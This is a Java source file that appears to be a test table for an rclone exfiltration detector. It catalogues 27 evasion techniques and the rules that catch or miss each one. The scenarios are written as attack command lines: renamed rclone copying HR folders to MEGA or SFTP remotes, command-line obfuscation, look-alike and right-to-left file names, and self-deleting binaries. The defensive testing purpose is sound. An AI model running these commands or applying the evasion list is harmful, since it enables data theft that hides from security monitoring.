package exfilwatch.job;

import static exfilwatch.job.Scene.linux;
import static exfilwatch.job.Scene.securityLog;
import static exfilwatch.job.Scene.windows;

import java.util.ArrayList;
import java.util.List;

/** The 27 known ways around the published detections, tried. */
final class EvasionTable {

  private static final String ELASTIC = "rule Potential Data Exfiltration via Rclone";
  private static final String KQL = "rule Rclone Copy Process Args";
  private static final String MOVES = "rule Rclone Moves Data";
  private static final String RENAMED = "rule Renamed Rclone";
  private static final String GRAMMAR = "rule Rclone Command Line Under Another Name";
  private static final String REMOTE = "rule Rclone Mount, Server or Remote Control";
  private static final String CORRELATED = "stage correlated";

  private static final String TOOL = "C:\\Tools\\rclone.exe";
  private static final String DISGUISED = "C:\\PerfLogs\\svchost.exe";
  private static final String ELSEWHERE = "203.0.113.5";
  private static final String MEGA = "g.api.mega.co.nz";
  private static final int HOURS = 3600;

  /** The exceptions that are in force. */
  static final String APPROVED =
      """
      title: Nightly backup
      expiry: 2099-12-31
      owner: backup-team@example.com
      logsource:
        category: process_creation
      filter:
        rules: any
        approved:
          exfil.config_path: 'C:\\ProgramData\\backup\\rclone.conf'
          exfil.destination.remote: approved
        condition: not approved
      """;

  private EvasionTable() {}

  static List<Evasion> all() {
    List<Evasion> all = new ArrayList<>();
    all.addAll(names());
    all.addAll(commands());
    all.addAll(exclusions());
    all.addAll(appearances());
    all.addAll(circumstances());
    return all;
  }

  private static Scene copy(Scene scene, String program, String commandLine) {
    return scene.run(program, commandLine).connects(ELSEWHERE, null).ends();
  }

  private static List<Evasion> names() {
    return List.of(
        Evasion.of(1, "Renamed, version data intact")
            .caught(
                copy(windows().pe(Scene.RCLONE), DISGUISED, "svchost.exe copy D:\\HR vault:x"),
                RENAMED,
                "evidence original_file_name",
                "factor renamed",
                CORRELATED),
        Evasion.of(2, "Renamed, telemetry without version data")
            .caught(
                copy(securityLog(), DISGUISED, "svchost.exe copy D:\\HR vault:x"),
                GRAMMAR,
                "evidence command_grammar",
                "factor renamed",
                CORRELATED)
            .caught(
                copy(linux(), "/tmp/.x/kworker", "kworker sync /srv vault:x --transfers 16"),
                GRAMMAR,
                CORRELATED)
            .outOfReach(copy(linux(), "/tmp/.x/kworker", "kworker copy /srv vault:x"))
            .outOfReach(copy(securityLog(), DISGUISED, "svchost.exe copy . vault:"))
            .limit(
                "A copy of a POSIX or relative path to a plainly named remote, without any option"
                    + " of rclone's, reads like the copy of other tools (`limactl copy /a vm:/b`)"),
        Evasion.of(3, "Version data stripped or edited; self-built; before 1.53")
            .caught(
                copy(windows().pe(Scene.NONE), DISGUISED, "svchost.exe sync D:\\HR vault:x"),
                GRAMMAR,
                "evidence command_grammar",
                "factor pe_missing",
                CORRELATED)
            .caught(
                copy(
                    windows().pe(Scene.edited("svchost.exe", "Windows")),
                    DISGUISED,
                    "svchost.exe move D:\\HR vault:x"),
                GRAMMAR,
                "factor renamed",
                CORRELATED)
            .caught(
                copy(
                    windows().pe(Scene.edited("svchost.exe", "Rclone")),
                    DISGUISED,
                    "svchost.exe copy . vault:"),
                RENAMED,
                "evidence product",
                CORRELATED),
        Evasion.of(4, "Original file name in another case")
            .caught(
                copy(
                    windows().pe(Scene.edited("Rclone.EXE", "x")),
                    DISGUISED,
                    "svchost.exe copy D:\\HR vault:x"),
                RENAMED,
                "evidence original_file_name",
                CORRELATED),
        Evasion.of(5, "Image name in capitals")
            .caught(
                copy(windows(), "C:\\Tools\\RCLONE.EXE", "RCLONE.EXE copy D:\\HR vault:x"),
                ELASTIC,
                MOVES,
                "evidence image_name",
                CORRELATED));
  }

  private static List<Evasion> commands() {
    Evasion verbs = Evasion.of(6, "Other commands than copy and sync");
    for (String command :
        List.of(
            "move /srv vault:x",
            "moveto /srv/a vault:a",
            "copyto /srv/a vault:a",
            "bisync /srv vault:x",
            "rcat vault:a",
            "copyurl https://intranet.example.com/a vault:a",
            "archive create /srv vault:a.zip",
            "backend copyid vault: 0ABCDEFGH /srv/a")) {
      verbs.caught(copy(linux(), "/usr/bin/rclone", "rclone " + command), MOVES, CORRELATED);
      verbs.caught(
          copy(
              windows().pe(Scene.RCLONE),
              DISGUISED,
              "svchost.exe " + command.replace("/srv", "D:\\HR")),
          RENAMED,
          CORRELATED);
    }
    verbs.quiet(copy(linux(), "/usr/bin/rclone", "rclone convmv vault: --name-transform all,nfc"));
    return List.of(
        verbs.limit("`convmv` gives files other names where they are: nothing leaves by it"),
        Evasion.of(7, "Mount, then copy with the file manager")
            .caught(
                windows()
                    .run(TOOL, "rclone.exe mount vault: X:")
                    .connects(3 * HOURS, ELSEWHERE, MEGA),
                REMOTE,
                "late_first_connection",
                CORRELATED)
            .caught(
                linux()
                    .run("/usr/bin/rclone", "rclone nfsmount vault: /mnt")
                    .connects(ELSEWHERE, null),
                REMOTE,
                CORRELATED)
            .caught(
                securityLog()
                    .run(DISGUISED, "svchost.exe mount vault: X:")
                    .connects(ELSEWHERE, null),
                GRAMMAR,
                CORRELATED)
            .limit("Which files were copied is not in this telemetry"),
        Evasion.of(8, "Serve, remote control, GUI: the verb is not in the daemon's arguments")
            .caught(
                windows()
                    .run(TOOL, "rclone.exe serve webdav D:\\HR --addr :8080")
                    .isConnectedTo(ELSEWHERE)
                    .ends(),
                REMOTE,
                "stage closed",
                "connections 0")
            .caughtTwice(
                windows()
                    .run(TOOL, "rclone.exe rcd --rc-no-auth")
                    .connects(9 * HOURS, ELSEWHERE, MEGA)
                    .run(TOOL, "rclone.exe rc sync/copy srcFs=D:\\HR dstFs=vault:x"),
                REMOTE,
                MOVES,
                "late_first_connection",
                CORRELATED)
            .caught(linux().run("/usr/bin/rclone", "rclone rc job/batch --json {}").ends(), MOVES)
            .caught(
                linux().run("/usr/bin/rclone", "rclone rc core/command command=copy").ends(), MOVES)
            .caught(
                windows().run(TOOL, "rclone.exe gui").connects(ELSEWHERE, null), REMOTE, CORRELATED)
            .caught(
                securityLog()
                    .run(DISGUISED, "svchost.exe rcd --rc-addr :5572 --rc-no-auth")
                    .connects(HOURS, ELSEWHERE, null),
                GRAMMAR,
                CORRELATED)
            .caught(
                securityLog()
                    .run(DISGUISED, "svchost.exe serve sftp D:\\HR")
                    .isConnectedTo(ELSEWHERE),
                GRAMMAR)
            .outOfReach(copy(securityLog(), DISGUISED, "svchost.exe rcd"))
            .outOfReach(copy(securityLog(), DISGUISED, "svchost.exe gui"))
            .limit(
                "Data that others fetch from a served folder arrives there as inbound connections,"
                    + " which never correlate. A renamed `rcd` or `gui` without version data and"
                    + " without options is one word, which tells nothing"),
        Evasion.of(9, "librclone, or rclone's Go packages, within another program")
            .outOfReach(
                copy(windows(), "C:\\Tools\\updater.exe", "updater.exe /silent")
                    .connects(ELSEWHERE, MEGA))
            .limit(
                "There is no program and no command line of rclone's, only a destination, which"
                    + " ordinary programs have too, and rclone's user agent, which endpoint"
                    + " telemetry doesn't have: a proxy's log does"),
        Evasion.of(10, "Remotes configured by environment variables")
            .caught(
                windows()
                    .run(
                        "C:\\Windows\\System32\\cmd.exe",
                        "cmd.exe /c \"set RCLONE_CONFIG_VAULT_TYPE=mega&& rclone.exe copy D:\\HR"
                            + " vault:x\"")
                    .within()
                    .run(TOOL, "rclone.exe copy D:\\HR vault:x")
                    .connects(ELSEWHERE, MEGA),
                GRAMMAR,
                ELASTIC,
                CORRELATED)
            .caught(copy(windows(), TOOL, "rclone.exe copy D:\\HR vault:x"), ELASTIC, CORRELATED)
            .limit(
                "Variables that were set elsewhere are in no process record: what kind of remote"
                    + " it is then only shows by its connections"));
  }

  private static List<Evasion> exclusions() {
    String approved = "--config=C:\\Program Files\\rclone\\config\\rclone\\rclone.conf";
    String own = "C:\\ProgramData\\backup\\rclone.conf";
    Evasion paths = Evasion.of(14, "Paths in other forms: \\\\?\\, 8.3, mixed slashes, devices");
    for (String program :
        List.of(
            "\\\\?\\C:\\Program Files\\..\\Users\\Public\\rclone.exe",
            "C:\\PROGRA~1\\rclone.exe",
            "C:/Program Files/rclone/rclone.exe",
            "\\Device\\HarddiskVolume3\\Program Files\\rclone\\rclone.exe",
            "C:\\Program Files\\rclone\\rclone.exe")) {
      paths.caught(copy(windows(), program, "rclone.exe copy D:\\HR vault:x"), MOVES, CORRELATED);
    }
    return List.of(
        Evasion.of(11, "A folder that begins like Program Files, or a writable one below it")
            .caught(
                copy(
                    windows(), "C:\\Program Files X\\rclone.exe", "rclone.exe copy D:\\HR vault:x"),
                MOVES,
                KQL,
                CORRELATED),
        Evasion.of(12, "The configuration of an approved job appended as an argument")
            .caught(
                copy(windows(), TOOL, "rclone.exe copy D:\\HR :mega,user=x:y \"" + approved + "\""),
                MOVES,
                CORRELATED)
            .caught(
                copy(
                    windows(),
                    TOOL,
                    "rclone.exe copy D:\\HR approved:x --config " + own + " --config C:\\x.conf"),
                MOVES,
                CORRELATED)
            .caught(
                copy(
                    windows(),
                    TOOL,
                    "rclone.exe copy D:\\HR approved,type=mega,user=x:y --config " + own),
                MOVES,
                CORRELATED),
        Evasion.of(13, "An approved job with its configuration as two words: a false alarm")
            .quiet(copy(windows(), TOOL, "rclone.exe copy D:\\HR approved:x --config " + own))
            .quiet(copy(windows(), TOOL, "rclone.exe copy D:\\HR approved:x --config=" + own)),
        paths
            .quiet(
                copy(windows(), TOOL, "rclone.exe copy D:\\HR approved:x --config \\\\?\\" + own))
            .quiet(
                copy(
                    windows(),
                    TOOL,
                    "rclone.exe copy D:\\HR approved:x --config " + own.replace('\\', '/')))
            .limit(
                "What an 8.3 name stands for is known to its volume only, so an exception does not"
                    + " apply to it"));
  }

  private static List<Evasion> appearances() {
    return List.of(
        Evasion.of(15, "Carets, quotes within words, tabs, doubled spaces")
            .caught(
                copy(windows(), TOOL, "rclone.exe \t c\"o\"py   D:\\HR  \"vau\"lt:x"),
                ELASTIC,
                MOVES,
                CORRELATED)
            .caught(
                copy(securityLog(), DISGUISED, "\"svchost.exe\"\tc\"o\"py  D:\\HR   vau\"lt\":x"),
                GRAMMAR,
                CORRELATED)
            .caught(
                securityLog()
                    .run("C:\\Windows\\System32\\cmd.exe", "cmd /c svc^host co^py D:\\HR va^ult:x"),
                GRAMMAR),
        Evasion.of(16, "Names written from right to left, or with letters of other alphabets")
            .caught(
                copy(
                    windows().pe(Scene.RCLONE),
                    "C:\\Users\\ann\\report\u202Efdp.exe",
                    "report copy D:\\HR vault:x"),
                RENAMED,
                CORRELATED)
            .caught(
                copy(
                    securityLog(),
                    "C:\\Users\\ann\\rcl\u043Ene.exe",
                    "rcl\u043Ene.exe copy D:\\HR vault:x"),
                GRAMMAR,
                "factor renamed",
                CORRELATED),
        Evasion.of(17, "Another user agent")
            .caught(
                copy(windows(), TOOL, "rclone.exe copy D:\\HR vault:x --user-agent Mozilla/5.0"),
                MOVES,
                "hiding user_agent",
                "factor hiding",
                CORRELATED),
        Evasion.of(18, "Held back: bandwidth limit, timetable, few transfers")
            .caught(
                copy(windows(), TOOL, "rclone.exe copy D:\\HR vault:x --bwlimit 1M --transfers 1"),
                MOVES,
                "factor pace",
                CORRELATED)
            .limit("No rule asks for volume, so there is none to stay below"),
        Evasion.of(19, "What is wanted stands in a file")
            .caught(
                copy(windows(), TOOL, "rclone.exe copy D:\\HR vault:x --files-from C:\\l.txt"),
                MOVES,
                "collect C:\\l.txt",
                CORRELATED)
            .limit("Which files that are is in that list only; the alert asks for it"),
        Evasion.of(20, "Encrypted remotes, own servers, bare addresses")
            .caught(
                copy(windows(), TOOL, "rclone.exe copy D:\\HR :crypt,remote=vault,password=x:y"),
                MOVES,
                "destination public",
                CORRELATED)
            .caught(
                copy(windows(), TOOL, "rclone.exe copy D:\\HR :sftp,host=" + ELSEWHERE + ":x"),
                MOVES,
                "factor on_the_fly_remote",
                "destination declared",
                CORRELATED)
            .limit("A known destination adds to the risk, but none is required"));
  }

  private static List<Evasion> circumstances() {
    String browser = "C:\\Program Files\\Browser\\browser.exe";
    return List.of(
        Evasion.of(21, "Reused process id; another parent pretended")
            .caught(
                securityLog()
                    .run(DISGUISED, "svchost.exe copy D:\\HR vault:x", 4711)
                    .connects(ELSEWHERE, null)
                    .ends()
                    .run(browser, "browser.exe", 4711)
                    .connects(ELSEWHERE, null)
                    .connects(ELSEWHERE, null),
                GRAMMAR,
                CORRELATED,
                "connections 1")
            .caught(
                copy(
                    windows().startedBy("C:\\Windows\\explorer.exe"),
                    TOOL,
                    "rclone.exe copy D:\\HR vault:x"),
                MOVES,
                CORRELATED)
            .limit("No rule asks for a parent; it only adds to the risk"),
        Evasion.of(22, "Packed or copied by other tools first")
            .caught(
                windows()
                    .run("C:\\Program Files\\7-Zip\\7z.exe", "7z.exe a D:\\s.7z D:\\HR -pSecret")
                    .ends()
                    .run(TOOL, "rclone.exe copy D:\\s.7z vault:x")
                    .connects(ELSEWHERE, null),
                ELASTIC,
                MOVES,
                CORRELATED)
            .limit("What was packed is not in the alert"),
        Evasion.of(23, "Only gathered from a share: not exfiltration yet")
            .caught(
                windows().run(TOOL, "rclone.exe copy \\\\fs1\\HR C:\\staging").ends(),
                ELASTIC,
                "factor local_only",
                "severity low"),
        Evasion.of(24, "Linux subsystem, container, Linux")
            .caught(
                windows()
                    .run("C:\\Windows\\System32\\wsl.exe", "wsl.exe rclone sync /mnt/d vault:x")
                    .ends(),
                MOVES)
            .caughtTwice(
                linux()
                    .run("/usr/bin/docker", "docker run -v /srv:/d rclone/rclone sync /d vault:x")
                    .run("/usr/local/bin/rclone", "rclone sync /d vault:x")
                    .connects(ELSEWHERE, null),
                MOVES,
                CORRELATED)
            .caught(copy(linux(), "/usr/bin/rclone", "rclone sync /srv vault:x"), MOVES, CORRELATED)
            .limit(
                "What runs within the subsystem's or a container's virtual machine connects from"
                    + " there: of that, the start of wsl.exe or docker is all that the host's"
                    + " sensor tells, so it doesn't correlate. Where both docker and the rclone in"
                    + " its container are told, they are two incidents: nothing says that one"
                    + " started the other"),
        Evasion.of(25, "Program deleted after its start; log to nowhere")
            .caught(
                windows()
                    .run(TOOL, "rclone.exe copy D:\\HR vault:x --log-file NUL")
                    .deletesItself()
                    .connects(ELSEWHERE, null)
                    .ends(),
                MOVES,
                CORRELATED),
        Evasion.of(26, "No connections are logged")
            .caught(
                windows().run(TOOL, "rclone.exe copy D:\\HR vault:x").ends(),
                ELASTIC,
                "stage closed",
                "network_telemetry false")
            .limit("Whether data left is not known; the closing alert says why"),
        Evasion.of(27, "Traffic later than any window")
            .caught(
                windows()
                    .run(TOOL, "rclone.exe mount vault: X:")
                    .connects(72 * HOURS, ELSEWHERE, null),
                REMOTE,
                "late_first_connection",
                CORRELATED)
            .caught(
                windows()
                    .run(TOOL, "rclone.exe copy D:\\HR vault:x --max-duration 2h")
                    .connects(0.3 * HOURS, ELSEWHERE, null)
                    .ends(),
                ELASTIC,
                "stage closed",
                "connections 1",
                "factor outbound_connection")
            .limit(
                "A copy that connects later than ten minutes after its start has no alert"
                    + " `correlated`, but its closing one has the connections"));
  }
}
